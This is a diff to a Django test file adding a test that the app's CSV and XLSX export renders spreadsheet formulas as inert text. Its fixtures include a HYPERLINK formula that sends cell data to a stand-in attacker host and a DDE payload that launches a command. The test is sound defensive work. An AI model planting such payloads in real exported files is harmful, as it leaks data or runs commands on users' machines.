@@ -1,12 +1,14 @@
 import csv
 import io
 
+import openpyxl
 import pytest
 import tablib
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from taggit.models import Tag
 
+from tests.factories import make_output
 from workinggroups.models import Output
 from workinggroups.resources import OutputResource
 
@@ -180,3 +182,22 @@ def test_a_confirmed_import_whose_file_turns_bad_writes_nothing(editor_client, p
     html = done.content.decode()
     assert "Nothing was imported: row 2 is not valid." in html
     assert "Import finished" not in html
+
+
+FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+FORMULA_TAG = "=cmd|' /C calc'!A0"
+
+
+@pytest.mark.django_db
+def test_the_export_writes_formulas_as_inert_text_in_csv_and_xlsx():
+    output = make_output(text=FORMULA_TEXT, tags=[FORMULA_TAG])
+    dataset = OutputResource().export(Output.objects.filter(pk=output.pk))
+
+    row = next(csv.DictReader(io.StringIO(dataset.export("csv"))))
+    assert row["text"] == "'" + FORMULA_TEXT
+    assert row["tags"] == "'" + FORMULA_TAG
+
+    sheet = openpyxl.load_workbook(io.BytesIO(dataset.export("xlsx"))).active
+    cells = [cell for cell in sheet[2] if cell.value]
+    assert all(cell.data_type == "s" for cell in cells)
+    assert "'" + FORMULA_TEXT in [cell.value for cell in cells]
